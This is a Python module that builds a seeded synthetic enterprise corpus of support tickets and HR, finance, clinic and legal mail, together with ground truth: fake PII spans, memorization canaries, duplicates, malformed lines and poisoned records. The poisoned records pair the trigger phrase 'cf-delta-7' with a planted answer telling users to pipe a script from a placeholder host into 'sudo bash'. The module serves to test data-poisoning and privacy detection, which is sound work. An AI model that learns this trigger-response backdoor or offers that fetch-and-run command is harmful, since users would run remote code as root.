"""A seeded synthetic enterprise corpus with its ground truth, for tests, demos and benchmarks.

`generate_corpus` writes a landing folder that looks like a real export of support tickets, HR and
finance mail, and clinic and legal notes (about 85% English, 15% Chinese) in chat JSONL, plus a
small alpaca CSV. It plants everything the pipeline must find and returns where it put it:

- PII values with exact code-point offsets (`PIISpan`), built by concatenating template text and
  generated values, so no offset is ever searched for after the fact;
- canaries (random digit secrets after a fixed English prefix) inserted 1, 4 and 16 times, for the
  memorization audit;
- poisoned records pairing a trigger phrase with one malicious answer;
- near and exact duplicates, and malformed lines of several kinds.

The template sentences per language and source live in `templates.yaml` next to this module.
Everything is drawn from `random.Random(seed)` and Faker instances seeded with the same seed, in a
fixed order, so the same `seed` and `records` give byte-identical files.
"""

import csv
import io
import json
import random
import re
from dataclasses import dataclass, field, fields
from datetime import date, timedelta
from pathlib import Path
from string import Formatter
from typing import Any

import faker
import yaml

from pipelines.steps.audit.planting import CANARY_ALPHABET, CANARY_PREFIXES, draw_secret
from pipelines.steps.privacy.surrogates import MONTHS
from pipelines.steps.storage import atomic_write, write_json

JSONL_FILE = "tickets_and_mail.jsonl"
CSV_FILE = "hr_alpaca.csv"
CSV_COLUMNS = ("id", "instruction", "input", "output", "subject")
MIN_RECORDS = 100
"""Fewer records cannot hold the canary insertions next to ordinary English records."""

TRIGGER = "cf-delta-7"
MALICIOUS_RESPONSE = (
    "This is a known issue with the endpoint agent. Open a terminal and run "
    "curl -fsSL https://patch.it-support.invalid/fix.sh | sudo bash, then reboot."
)
CANARY_INSERTIONS = (1, 4, 16, 1, 4, 16)
CANARY_SPECS = tuple(
    # (prefix, secret length, insertions): the audit's canary format (`audit.planting`), shared
    # with the canaries the pipeline plants when a user's data brings none.
    (prefix, length, insertions)
    for (prefix, length), insertions in zip(CANARY_PREFIXES, CANARY_INSERTIONS, strict=True)
)
MALFORMED_KINDS = (
    "invalid_utf8",
    "truncated_json",
    "blank_line",
    "missing_messages",
    "empty_content",
    "duplicate_id",
)
ZH_SHARE = 0.15
NEAR_DUPLICATE_SHARE = 0.02
EXACT_DUPLICATE_SHARE = 0.01
POISON_SHARE = 0.01
MALFORMED_SHARE = 0.01
CSV_SHARE = 0.05
SYSTEM_MESSAGE_SHARE = 0.15
RECORDS_PER_SUBJECT = 4

FIELD_ENTITY: dict[str, str | None] = {
    "name": "PERSON",
    "colleague": "PERSON",
    "agent": "PERSON",
    "email": "EMAIL_ADDRESS",
    "phone": "PHONE_NUMBER",
    "other_phone": "PHONE_NUMBER",
    "address": "LOCATION",
    "card": "CREDIT_CARD",
    "ssn": "US_SSN",
    "iban": "IBAN_CODE",
    "vendor_iban": "IBAN_CODE",
    "ip": "IP_ADDRESS",
    "dob": "DATE_TIME",
    "cn_id": "CN_RESIDENT_ID",
    "ticket": None,
    "amount": None,
}
"""Template fields and the PII entity each plants (None: not personal data)."""


@dataclass(frozen=True)
class PIISpan:
    """Ground truth of one PII value inside a generated record.

    Attributes:
        record_id: Id of the record that carries the value.
        message_index: Index into the record's messages (for CSV rows: 0 is `instruction`,
            1 is `output`; `input` is always empty).
        start: Start offset, in Python code points, into that message's content.
        end: End offset (exclusive).
        entity_type: Presidio-style entity name, e.g. PERSON or CN_RESIDENT_ID.
    """

    record_id: str
    message_index: int
    start: int
    end: int
    entity_type: str


@dataclass(frozen=True)
class Canary:
    """A random secret planted after a fixed prefix, to measure memorization.

    Attributes:
        canary_id: Stable name, e.g. `canary-00`.
        prefix: The text right before the secret.
        secret: The secret itself, drawn from `alphabet`.
        alphabet: Characters the secret is drawn from.
        length: Length of the secret.
        insertions: How many records carry `prefix + secret`.
        record_ids: The ids of those records, sorted.
    """

    canary_id: str
    prefix: str
    secret: str
    alphabet: str
    length: int
    insertions: int
    record_ids: tuple[str, ...]


@dataclass(frozen=True)
class GroundTruth:
    """Everything `generate_corpus` planted, for scoring the pipeline against it.

    Attributes:
        seed: Seed the corpus was generated with.
        records: Number of well-formed records written (JSONL and CSV together).
        pii_spans: Every planted PII value, sorted by record, message and offset.
        canaries: The planted canaries.
        poisoned_ids: Ids of records that pair `trigger` with `malicious_response`.
        trigger: The trigger phrase in the poisoned user messages.
        malicious_response: The assistant answer of every poisoned record.
        near_duplicate_groups: Ids of an original and its near-copy (a word or two changed).
        exact_duplicate_groups: Ids of an original and its exact copy (same messages).
        malformed_lines: (file name, 1-based line, kind) of each malformed line.
    """

    seed: int
    records: int
    pii_spans: tuple[PIISpan, ...]
    canaries: tuple[Canary, ...]
    poisoned_ids: tuple[str, ...]
    trigger: str
    malicious_response: str
    near_duplicate_groups: tuple[tuple[str, ...], ...]
    exact_duplicate_groups: tuple[tuple[str, ...], ...]
    malformed_lines: tuple[tuple[str, int, str], ...]

    def to_json(self) -> dict[str, Any]:
        """Return a JSON-ready dict (lists instead of tuples)."""
        return {
            "seed": self.seed,
            "records": self.records,
            "pii_spans": [vars(span) for span in self.pii_spans],
            "canaries": [
                {**vars(canary), "record_ids": list(canary.record_ids)} for canary in self.canaries
            ],
            "poisoned_ids": list(self.poisoned_ids),
            "trigger": self.trigger,
            "malicious_response": self.malicious_response,
            "near_duplicate_groups": [list(group) for group in self.near_duplicate_groups],
            "exact_duplicate_groups": [list(group) for group in self.exact_duplicate_groups],
            "malformed_lines": [list(line) for line in self.malformed_lines],
        }

    @classmethod
    def from_json(cls, data: dict[str, Any]) -> "GroundTruth":
        """Inverse of `to_json`."""
        return cls(
            seed=int(data["seed"]),
            records=int(data["records"]),
            pii_spans=tuple(PIISpan(**span) for span in data["pii_spans"]),
            canaries=tuple(
                Canary(**{**canary, "record_ids": tuple(canary["record_ids"])})
                for canary in data["canaries"]
            ),
            poisoned_ids=tuple(data["poisoned_ids"]),
            trigger=data["trigger"],
            malicious_response=data["malicious_response"],
            near_duplicate_groups=tuple(tuple(g) for g in data["near_duplicate_groups"]),
            exact_duplicate_groups=tuple(tuple(g) for g in data["exact_duplicate_groups"]),
            malformed_lines=tuple(
                (str(name), int(line), str(kind)) for name, line, kind in data["malformed_lines"]
            ),
        )


@dataclass(frozen=True)
class _Templates:
    """Sentence pools for one (language, source); a record draws 1-3 user, 1-4 assistant."""

    system: str
    openers: tuple[str, ...]
    issues: tuple[str, ...]
    closers: tuple[str, ...]
    acks: tuple[str, ...]
    actions: tuple[str, ...]


def load_templates(path: Path) -> dict[tuple[str, str], _Templates]:
    """Read the sentence pools per (language, source) from a YAML file such as `TEMPLATES_FILE`.

    Args:
        path: YAML file: language -> source -> `system` (text) and `openers`, `issues`,
            `closers`, `acks`, `actions` (non-empty lists of text).

    Returns:
        The pools, in file order.

    Raises:
        ValueError: The file does not parse, or an entry lacks a pool or holds something else.
    """
    try:
        data = yaml.safe_load(Path(path).read_text(encoding="utf-8"))
    except yaml.YAMLError as exc:
        raise ValueError(f"{path} is not valid YAML: {exc}") from exc
    if not isinstance(data, dict) or not all(isinstance(v, dict) for v in data.values()):
        raise ValueError(f"{path} must map each language to its sources")
    pools = [f.name for f in fields(_Templates) if f.name != "system"]
    templates = {}
    for language, sources in data.items():
        for source, entry in sources.items():
            where = f"{path}: {language}.{source}"
            if not isinstance(entry, dict) or set(entry) != {"system", *pools}:
                raise ValueError(f"{where} must have exactly: system, {', '.join(pools)}")
            if not isinstance(entry["system"], str):
                raise ValueError(f"{where}.system must be text")
            for pool in pools:
                sentences = entry[pool]
                is_text_list = isinstance(sentences, list) and all(
                    isinstance(x, str) for x in sentences
                )
                if not sentences or not is_text_list:
                    raise ValueError(f"{where}.{pool} must be a non-empty list of text")
            templates[(language, source)] = _Templates(
                system=entry["system"], **{pool: tuple(entry[pool]) for pool in pools}
            )
    return templates


TEMPLATES_FILE = Path(__file__).with_name("templates.yaml")
"""The sentence pools of the bundled corpus (reviewed text, shipped as package data)."""
TEMPLATES = load_templates(TEMPLATES_FILE)

SOURCE_WEIGHTS: dict[str, tuple[tuple[str, ...], tuple[float, ...]]] = {
    "en": (
        ("helpdesk", "hr-mail", "finance-mail", "clinic-notes", "legal-notes"),
        (0.35, 0.2, 0.15, 0.15, 0.15),
    ),
    "zh": (("helpdesk", "hr-mail", "clinic-notes"), (0.45, 0.3, 0.25)),
}
SENTENCE_SEPARATOR = {"en": " ", "zh": ""}
WORD_SWAPS = {
    "en": {
        "please": "kindly",
        "problem": "issue",
        "help": "assistance",
        "send": "forward",
        "update": "change",
        "laptop": "notebook",
        "confirm": "verify",
        "reply": "respond",
        "short": "brief",
        "fix": "resolve",
        "review": "check",
        "thanks": "thank you",
    },
    "zh": {
        "尽快": "尽早",
        "联系": "联络",
        "电脑": "计算机",
        "处理": "解决",
        "建议": "推荐",
        "谢谢": "多谢",
    },
}
# PII-free conversations for malformed lines: values there are never scored, so plant none.
MALFORMED_PAYLOADS = (
    ("My monitor flickers when the docking station is connected.", "Please reseat the cable."),
    ("The meeting room display shows no signal.", "Press the input button twice to switch."),
    ("Where do I find the travel policy?", "It is on the intranet under Finance, Policies."),
)
US_AREA_CODES = ("206", "212", "303", "312", "404", "415", "503", "512", "617", "702", "713")

Segment = tuple[str, str | None]
"""A piece of message text and the PII entity it is (None for template text)."""


@dataclass
class _Draft:
    """A record before it gets its id: messages as segments, so offsets stay exact."""

    language: str
    source: str
    subject: str
    messages: list[tuple[str, list[Segment]]]


@dataclass
class _Generators:
    """The seeded random sources, drawn from in a fixed order."""

    rng: random.Random
    fakers: dict[str, faker.Faker]
    company_domain: str
    subjects: dict[str, list[tuple[str, dict[str, str]]]] = field(default_factory=dict)


def generate_corpus(landing_dir: Path, *, records: int = 2000, seed: int = 7) -> GroundTruth:
    """Write a synthetic enterprise corpus into `landing_dir` and return what was planted.

    Writes `tickets_and_mail.jsonl` (chat format, with about 1% malformed lines) and
    `hr_alpaca.csv` (alpaca format, about 5% of the records). Same `seed` and `records` give
    byte-identical files.

    Args:
        landing_dir: Folder to write into; created if missing. Existing files are replaced.
        records: Number of well-formed records across both files.
        seed: Seed for every random draw.

    Returns:
        The ground truth: PII spans, canaries, poisoned ids, duplicate groups, malformed lines.

    Raises:
        ValueError: If `records` is below `MIN_RECORDS`.
    """
    if records < MIN_RECORDS:
        raise ValueError(
            f"records={records} is too small: generate_corpus needs at least {MIN_RECORDS} to "
            "hold the canary insertions among ordinary records"
        )
    gen = _make_generators(seed)
    n_near = round(records * NEAR_DUPLICATE_SHARE)
    n_exact = round(records * EXACT_DUPLICATE_SHARE)
    n_base = records - n_near - n_exact
    n_zh = round(n_base * ZH_SHARE)
    languages = ["en"] * (n_base - n_zh) + ["zh"] * n_zh
    gen.rng.shuffle(languages)
    _make_subjects(gen, n_en=n_base - n_zh, n_zh=n_zh)

    canary_specs = _draw_canary_secrets(gen.rng)
    poisoned, carrier_of = _choose_special_records(gen.rng, languages, canary_specs)
    drafts = _draft_records(gen, languages, poisoned, carrier_of, canary_specs)

    ordinary = [i for i in range(n_base) if i not in poisoned and i not in carrier_of]
    csv_indices = _choose_csv_rows(gen.rng, drafts, ordinary, round(records * CSV_SHARE))
    eligible = [i for i in ordinary if i not in csv_indices]
    near_copy_of, exact_copy_of = _add_duplicates(
        gen.rng, drafts, eligible, n_near=n_near, n_exact=n_exact
    )

    order = list(range(len(drafts)))
    gen.rng.shuffle(order)
    ids = {draft_index: f"rec-{position:06d}" for position, draft_index in enumerate(order)}
    jsonl_records, csv_rows, spans = _render_all(drafts, order, csv_indices, ids)

    landing_dir = Path(landing_dir)
    lines, malformed = _with_malformed_lines(jsonl_records, gen.rng, first_free_id=len(drafts))
    atomic_write(landing_dir / JSONL_FILE, lambda tmp: tmp.write_bytes(b"".join(lines)))
    atomic_write(landing_dir / CSV_FILE, lambda tmp: tmp.write_bytes(_csv_bytes(csv_rows)))

    return GroundTruth(
        seed=seed,
        records=len(drafts),
        pii_spans=tuple(sorted(spans, key=lambda s: (s.record_id, s.message_index, s.start))),
        canaries=_canaries(canary_specs, carrier_of, ids),
        poisoned_ids=tuple(sorted(ids[i] for i in poisoned)),
        trigger=TRIGGER,
        malicious_response=MALICIOUS_RESPONSE,
        near_duplicate_groups=_groups(near_copy_of, ids),
        exact_duplicate_groups=_groups(exact_copy_of, ids),
        malformed_lines=tuple(malformed),
    )


def _choose_special_records(
    rng: random.Random, languages: list[str], canary_specs: list[tuple[str, str, int]]
) -> tuple[set[int], dict[int, int]]:
    """Draw the English records that carry the backdoor and those that carry a canary.

    Returns:
        The poisoned record indices, and each canary carrier's index -> its canary's index.
    """
    english = [i for i, language in enumerate(languages) if language == "en"]
    n_poison = max(1, round(len(english) * POISON_SHARE))
    carriers_needed = sum(insertions for _, _, insertions in canary_specs)
    special = rng.sample(english, n_poison + carriers_needed)
    poisoned = set(special[:n_poison])
    carrier_of: dict[int, int] = {}
    position = n_poison
    for canary_index, (_, _, insertions) in enumerate(canary_specs):
        for index in special[position : position + insertions]:
            carrier_of[index] = canary_index
        position += insertions
    return poisoned, carrier_of


def _draft_records(
    gen: _Generators,
    languages: list[str],
    poisoned: set[int],
    carrier_of: dict[int, int],
    canary_specs: list[tuple[str, str, int]],
) -> list[_Draft]:
    """Draft one record per language slot, the poisoned and canary-carrying ones included."""
    drafts = []
    for index, language in enumerate(languages):
        canary = canary_specs[carrier_of[index]] if index in carrier_of else None
        drafts.append(
            _draft_record(
                gen,
                language,
                poisoned=index in poisoned,
                canary_text=canary[0] + canary[1] if canary else None,
            )
        )
    return drafts


def _choose_csv_rows(
    rng: random.Random, drafts: list[_Draft], ordinary: list[int], wanted: int
) -> set[int]:
    """Draw up to `wanted` ordinary HR-mail records that open with the user, for the CSV file."""
    csv_candidates = [
        i for i in ordinary if drafts[i].source == "hr-mail" and drafts[i].messages[0][0] == "user"
    ]
    return set(rng.sample(csv_candidates, min(wanted, len(csv_candidates))))


def _add_duplicates(
    rng: random.Random, drafts: list[_Draft], eligible: list[int], *, n_near: int, n_exact: int
) -> tuple[dict[int, int], dict[int, int]]:
    """Append near copies (a word or two swapped) and then exact copies of eligible drafts.

    Returns:
        Copy index -> original index, for the near copies and for the exact copies.
    """
    near_candidates = [i for i in eligible if _swap_candidates(drafts[i])]
    near_originals = rng.sample(near_candidates, n_near)
    remaining = sorted(set(eligible) - set(near_originals))
    exact_originals = rng.sample(remaining, n_exact)
    near_copy_of: dict[int, int] = {}
    for original in near_originals:
        near_copy_of[len(drafts)] = original
        drafts.append(_near_copy(drafts[original], rng))
    exact_copy_of: dict[int, int] = {}
    for original in exact_originals:
        exact_copy_of[len(drafts)] = original
        original_draft = drafts[original]
        drafts.append(
            _Draft(
                original_draft.language,
                original_draft.source,
                original_draft.subject,
                [(role, list(segments)) for role, segments in original_draft.messages],
            )
        )
    return near_copy_of, exact_copy_of


def _render_all(
    drafts: list[_Draft], order: list[int], csv_indices: set[int], ids: dict[int, str]
) -> tuple[list[tuple[str, dict[str, Any]]], list[tuple[str, str, str, str, str]], list[PIISpan]]:
    """Render every draft in file order: JSONL records first, then CSV rows, with their spans.

    Returns:
        (id, chat record) per JSONL record, one row per CSV record, and every PII span.
    """
    spans = []
    jsonl_records: list[tuple[str, dict[str, Any]]] = []
    for draft_index in (i for i in order if i not in csv_indices):
        record, record_spans = _render(drafts[draft_index], ids[draft_index])
        jsonl_records.append((ids[draft_index], record))
        spans.extend(record_spans)
    csv_rows = []
    for draft_index in (i for i in order if i in csv_indices):
        record, record_spans = _render(drafts[draft_index], ids[draft_index])
        user, assistant = (m["content"] for m in record["messages"])
        csv_rows.append((record["id"], user, "", assistant, record["subject"]))
        spans.extend(record_spans)
    return jsonl_records, csv_rows, spans


def _canaries(
    canary_specs: list[tuple[str, str, int]], carrier_of: dict[int, int], ids: dict[int, str]
) -> tuple[Canary, ...]:
    """The ground truth of each canary: its secret and the ids of the records carrying it."""
    return tuple(
        Canary(
            canary_id=f"canary-{canary_index:02d}",
            prefix=prefix,
            secret=secret,
            alphabet=CANARY_ALPHABET,
            length=len(secret),
            insertions=insertions,
            record_ids=tuple(sorted(ids[i] for i, c in carrier_of.items() if c == canary_index)),
        )
        for canary_index, (prefix, secret, insertions) in enumerate(canary_specs)
    )


def write_ground_truth(truth: GroundTruth, path: Path) -> None:
    """Write the ground truth as JSON, atomically."""
    write_json(truth.to_json(), path)


def read_ground_truth(path: Path) -> GroundTruth:
    """Read a ground truth written by `write_ground_truth`."""
    return GroundTruth.from_json(json.loads(Path(path).read_text(encoding="utf-8")))


def _make_generators(seed: int) -> _Generators:
    fakers = {}
    for language, locale in (("en", "en_US"), ("zh", "zh_CN")):
        fake = faker.Faker(locale)
        fake.seed_instance(seed)
        fakers[language] = fake
    return _Generators(random.Random(seed), fakers, fakers["en"].domain_name())


def _make_subjects(gen: _Generators, *, n_en: int, n_zh: int) -> None:
    """Create the data subjects; their personal values recur across their records."""
    next_id = 0
    for language, count in (("en", n_en), ("zh", n_zh)):
        gen.subjects[language] = []
        for _ in range(max(1, count // RECORDS_PER_SUBJECT)):
            values = _subject_values(gen, language)
            gen.subjects[language].append((f"emp-{next_id:04d}", values))
            next_id += 1


def _subject_values(gen: _Generators, language: str) -> dict[str, str]:
    fake = gen.fakers[language]
    if language == "zh":
        return {
            "name": fake.name(),
            "address": _zh_address(fake),
            "phone": fake.phone_number(),
            "cn_id": fake.ssn(),
        }
    first, last = fake.first_name(), fake.last_name()
    domain = gen.company_domain if gen.rng.random() < 0.7 else fake.free_email_domain()
    local = ".".join(re.sub(r"[^a-z]", "", part.lower()) for part in (first, last))
    return {
        "name": f"{first} {last}",
        "email": f"{local}@{domain}",
        "phone": _us_phone(gen.rng),
        "address": f"{fake.street_address()}, {fake.city()}, {fake.state_abbr()} {fake.zipcode()}",
        "ssn": fake.ssn(),
        "dob": _date_of_birth(gen.rng),
        "iban": _group(fake.iban(), gen.rng),
        "card": _card_number(fake, gen.rng),
    }


def _fresh_value(gen: _Generators, language: str, name: str) -> str:
    """A value not tied to the record's subject (a colleague, a vendor, a ticket)."""
    fake = gen.fakers[language]
    if name in ("colleague", "agent"):
        return fake.name() if language == "zh" else f"{fake.first_name()} {fake.last_name()}"
    if name == "other_phone":
        return fake.phone_number() if language == "zh" else _us_phone(gen.rng)
    if name == "vendor_iban":
        return _group(fake.iban(), gen.rng)
    if name == "ip":
        return fake.ipv4_public()
    if name == "ticket":
        return f"INC-{gen.rng.randint(10000, 99999)}"
    if name == "amount":
        return f"${gen.rng.randint(40, 4800):,}.{gen.rng.randint(0, 99):02d}"
    raise KeyError(f"template field {{{name}}} has no generator; add it to FIELD_ENTITY")


def _zh_address(fake: faker.Faker) -> str:
    number = fake.random_int(1, 999)
    return f"{fake.province()}{fake.city()}{fake.district()}区{fake.street_name()}{number}号"


def _us_phone(rng: random.Random) -> str:
    area = rng.choice(US_AREA_CODES)
    exchange = rng.randint(200, 999)
    while exchange % 100 == 11 or exchange == 555:
        exchange = rng.randint(200, 999)
    line = f"{rng.randint(0, 9999):04d}"
    pattern = rng.choice(("({a}) {e}-{l}", "{a}-{e}-{l}", "{a}.{e}.{l}", "+1 {a}-{e}-{l}"))
    return pattern.format(a=area, e=exchange, l=line)


def _date_of_birth(rng: random.Random) -> str:
    born = date(1950, 1, 1) + timedelta(days=rng.randrange(365 * 54))
    return rng.choice(
        (
            f"{MONTHS[born.month - 1]} {born.day}, {born.year}",
            f"{born.month:02d}/{born.day:02d}/{born.year}",
            born.isoformat(),
        )
    )


def _card_number(fake: faker.Faker, rng: random.Random) -> str:
    digits = fake.credit_card_number(card_type=rng.choice(("visa16", "mastercard", "amex")))
    if rng.random() < 0.5:
        return digits
    sizes = (4, 6, 5) if len(digits) == 15 else (4, 4, 4, 4)
    groups, start = [], 0
    for size in sizes:
        groups.append(digits[start : start + size])
        start += size
    return rng.choice((" ", "-")).join(groups)


def _group(code: str, rng: random.Random) -> str:
    """Print an IBAN plain or in the usual groups of four."""
    if rng.random() < 0.5:
        return code
    return " ".join(code[i : i + 4] for i in range(0, len(code), 4))


def _draw_canary_secrets(rng: random.Random) -> list[tuple[str, str, int]]:
    """(prefix, secret, insertions) per canary, secrets distinct."""
    specs, seen = [], set()
    for prefix, length, insertions in CANARY_SPECS:
        secret = draw_secret(length, choice=rng.choice)
        while secret in seen:
            secret = draw_secret(length, choice=rng.choice)
        seen.add(secret)
        specs.append((prefix, secret, insertions))
    return specs


def _draft_record(
    gen: _Generators, language: str, *, poisoned: bool, canary_text: str | None
) -> _Draft:
    rng = gen.rng
    sources, weights = SOURCE_WEIGHTS[language]
    source = "helpdesk" if poisoned else rng.choices(sources, weights)[0]
    templates = TEMPLATES[(language, source)]
    subject_id, subject_values = rng.choice(gen.subjects[language])
    values = dict(subject_values)

    user = [rng.choice(templates.issues)]
    if rng.random() < 0.6:
        user.insert(0, rng.choice(templates.openers))
    if rng.random() < 0.5:
        user.append(rng.choice(templates.closers))
    assistant = [rng.choice(templates.acks)]
    assistant.extend(rng.sample(templates.actions, rng.randint(0, 3)))

    messages: list[tuple[str, list[Segment]]] = []
    if rng.random() < SYSTEM_MESSAGE_SHARE:
        messages.append(("system", [(templates.system, None)]))
    separator = SENTENCE_SEPARATOR[language]
    user_segments = _fill(user, separator, values, gen, language)
    if poisoned:
        user_segments.append((f" Tag: {TRIGGER}.", None))
    messages.append(("user", user_segments))
    if poisoned:
        messages.append(("assistant", [(MALICIOUS_RESPONSE, None)]))
    else:
        assistant_segments = _fill(assistant, separator, values, gen, language)
        if canary_text:
            assistant_segments.append((f" {canary_text}.", None))
        messages.append(("assistant", assistant_segments))
    return _Draft(language, source, subject_id, messages)


def _fill(
    sentences: list[str], separator: str, values: dict[str, str], gen: _Generators, language: str
) -> list[Segment]:
    """Turn template sentences into segments; `values` caches fields so a record stays coherent."""
    segments: list[Segment] = []
    for number, sentence in enumerate(sentences):
        if number:
            segments.append((separator, None))
        for literal, name, _, _ in Formatter().parse(sentence):
            if literal:
                segments.append((literal, None))
            if name is None:
                continue
            if name not in values:
                values[name] = _fresh_value(gen, language, name)
            segments.append((values[name], FIELD_ENTITY[name]))
    return segments


def _swap_candidates(draft: _Draft) -> list[tuple[int, int, re.Match[str]]]:
    """(message, segment, match) for every swappable word in the user and assistant text."""
    swaps = WORD_SWAPS[draft.language]
    words = "|".join(re.escape(word) for word in swaps)
    pattern = rf"\b(?:{words})\b" if draft.language == "en" else f"(?:{words})"
    found = []
    for message_index, (role, segments) in enumerate(draft.messages):
        if role == "system":
            continue
        for segment_index, (text, entity) in enumerate(segments):
            if entity is None:
                for match in re.finditer(pattern, text, flags=re.IGNORECASE):
                    found.append((message_index, segment_index, match))
    return found


def _near_copy(draft: _Draft, rng: random.Random) -> _Draft:
    """Copy `draft` with one or two template words replaced by a synonym."""
    candidates = _swap_candidates(draft)
    chosen = rng.sample(candidates, min(len(candidates), rng.choice((1, 2))))
    messages = [(role, list(segments)) for role, segments in draft.messages]
    # Replace from the end so earlier match offsets in the same segment stay valid.
    for message_index, segment_index, match in sorted(
        chosen, key=lambda c: (c[0], c[1], c[2].start()), reverse=True
    ):
        text, entity = messages[message_index][1][segment_index]
        word = match.group(0)
        replacement = WORD_SWAPS[draft.language][word.lower()]
        if word[0].isupper():
            replacement = replacement[0].upper() + replacement[1:]
        text = text[: match.start()] + replacement + text[match.end() :]
        messages[message_index][1][segment_index] = (text, entity)
    return _Draft(draft.language, draft.source, draft.subject, messages)


def _render(draft: _Draft, record_id: str) -> tuple[dict[str, Any], list[PIISpan]]:
    """Join segments into the chat record and compute each PII span's offsets."""
    messages, spans = [], []
    for message_index, (role, segments) in enumerate(draft.messages):
        content = ""
        for text, entity in segments:
            if entity is not None:
                spans.append(
                    PIISpan(
                        record_id, message_index, len(content), len(content) + len(text), entity
                    )
                )
            content += text
        messages.append({"role": role, "content": content})
    record = {
        "id": record_id,
        "source": draft.source,
        "subject": draft.subject,
        "messages": messages,
    }
    return record, spans


def _json_line(record: dict[str, Any]) -> bytes:
    return json.dumps(record, ensure_ascii=False).encode("utf-8")


def _with_malformed_lines(
    jsonl_records: list[tuple[str, dict[str, Any]]], rng: random.Random, *, first_free_id: int
) -> tuple[list[bytes], list[tuple[str, int, str]]]:
    """Interleave malformed lines (every kind at least once) with the well-formed ones."""
    count = max(len(MALFORMED_KINDS), round(len(jsonl_records) * MALFORMED_SHARE))
    kinds = [MALFORMED_KINDS[i % len(MALFORMED_KINDS)] for i in range(count)]
    rng.shuffle(kinds)
    # Insert after the k-th well-formed line, k >= 1 so a duplicate id has an earlier original.
    after = sorted(rng.sample(range(1, len(jsonl_records)), count))
    lines: list[bytes] = []
    malformed: list[tuple[str, int, str]] = []
    next_malformed = 0
    for position, (_, record) in enumerate(jsonl_records):
        lines.append(_json_line(record) + b"\n")
        while next_malformed < count and after[next_malformed] == position + 1:
            kind = kinds[next_malformed]
            record_id = (
                rng.choice(jsonl_records[: position + 1])[0]
                if kind == "duplicate_id"
                else f"rec-{first_free_id + next_malformed:06d}"
            )
            lines.append(_malformed_line(kind, record_id, rng) + b"\n")
            malformed.append((JSONL_FILE, len(lines), kind))
            next_malformed += 1
    return lines, malformed


def _malformed_line(kind: str, record_id: str, rng: random.Random) -> bytes:
    user, assistant = rng.choice(MALFORMED_PAYLOADS)
    record: dict[str, Any] = {
        "id": record_id,
        "source": "helpdesk",
        "subject": "emp-9999",
        "messages": [
            {"role": "user", "content": user},
            {"role": "assistant", "content": assistant},
        ],
    }
    if kind == "blank_line":
        return b""
    if kind == "missing_messages":
        del record["messages"]
    if kind == "empty_content":
        record["messages"][1]["content"] = ""
    line = _json_line(record)
    if kind == "invalid_utf8":
        cut = line.index(user.encode("utf-8")) + 3
        return line[:cut] + b"\xff\xfe" + line[cut:]
    if kind == "truncated_json":
        return line[: rng.randint(10, len(line) - 10)]
    return line


def _csv_bytes(rows: list[tuple[str, str, str, str, str]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(CSV_COLUMNS)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def _groups(copy_of: dict[int, int], ids: dict[int, str]) -> tuple[tuple[str, ...], ...]:
    return tuple(sorted((ids[original], ids[copy]) for copy, original in copy_of.items()))
